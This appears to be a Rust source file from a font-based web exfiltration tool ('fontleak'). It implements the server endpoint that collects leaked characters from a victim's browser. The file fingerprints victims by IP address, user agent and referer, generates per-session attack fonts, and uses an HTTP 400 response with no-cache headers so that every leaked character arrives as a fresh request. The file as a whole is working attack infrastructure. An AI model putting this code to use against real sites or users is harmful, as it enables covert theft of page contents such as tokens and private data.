//! `GET /leak`: the probe callback (spec.md §4.5). Always returns HTTP 400
//! with an empty `image/png` body and no-cache headers — that status is
//! load-bearing, preventing the browser from caching the probe or reusing
//! the connection, which guarantees a fresh TCP/TLS slot per leaked
//! character.

use std::sync::Arc;

use axum::extract::{ConnectInfo, Query, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use serde::Deserialize;
use std::net::SocketAddr;

use crate::browser::Browser;
use crate::session::{LeakSetup, StaticSetup};
use crate::AppState;

#[derive(Debug, Deserialize)]
pub struct LeakParams {
    pub id: Option<String>,
    pub sid: Option<String>,
    #[serde(default)]
    pub idx: usize,
    pub step: Option<usize>,
}

pub async fn handle(
    State(state): State<Arc<AppState>>,
    Query(params): Query<LeakParams>,
    headers: HeaderMap,
    connect_info: Option<ConnectInfo<SocketAddr>>,
) -> Response {
    if let Some(id) = resolve_session_id(&state, &params, &headers, connect_info) {
        state.orchestrator.handle_leak(&id, params.idx, params.step);
    } else {
        log::debug!("leak probe with no resolvable session, ignored");
    }

    (
        StatusCode::BAD_REQUEST,
        [
            (axum::http::header::CONTENT_TYPE, "image/png"),
            (axum::http::header::CACHE_CONTROL, "no-store, no-cache, must-revalidate"),
        ],
        Vec::<u8>::new(),
    )
        .into_response()
}

/// Resolves the target session either directly by `id`, or — for static
/// sessions — by the composite key `remote_ip||user_agent||referer||sid`,
/// creating the session from its `StaticSetup` on first touch.
fn resolve_session_id(
    state: &AppState,
    params: &LeakParams,
    headers: &HeaderMap,
    connect_info: Option<ConnectInfo<SocketAddr>>,
) -> Option<String> {
    if let Some(id) = &params.id {
        return Some(id.clone());
    }

    let sid = params.sid.as_ref()?;
    let setup = state.orchestrator.store.static_setup(sid)?;

    let remote_ip = connect_info
        .map(|ConnectInfo(addr)| addr.ip().to_string())
        .unwrap_or_default();
    let user_agent = header_str(headers, axum::http::header::USER_AGENT);
    let referer = header_str(headers, axum::http::header::REFERER);
    let composite_id = format!("{remote_ip}||{user_agent}||{referer}||{sid}");

    if !state.orchestrator.store.contains(&composite_id) {
        let browser = Browser::from_user_agent(&user_agent);
        create_static_session(state, &composite_id, &setup, browser);
    }
    Some(composite_id)
}

fn header_str(headers: &HeaderMap, name: axum::http::HeaderName) -> String {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string()
}

fn create_static_session(state: &AppState, composite_id: &str, setup: &StaticSetup, browser: Browser) {
    let opts = fontleak_core::FontBuilderOptions {
        alphabet: match fontleak_core::AlphabetModel::normalise(&setup.setup.alphabet) {
            Ok(a) => a,
            Err(_) => return,
        },
        idx_max: setup.length,
        strip: setup.setup.strip,
        prefix: Vec::new(),
        prefix_idx: false,
        offset: 0,
    };
    let Ok(font) = fontleak_core::FontBuilder::generate(&opts) else {
        return;
    };
    let leak_setup = LeakSetup {
        selector: setup.setup.selector.clone(),
        parent: setup.setup.parent.clone(),
        alphabet: setup.setup.alphabet.clone(),
        attr: setup.setup.attr.clone(),
        strip: setup.setup.strip,
        timeout: setup.setup.timeout,
    };
    state
        .orchestrator
        .store
        .create_or_resume(Some(composite_id), browser, leak_setup, font);
}

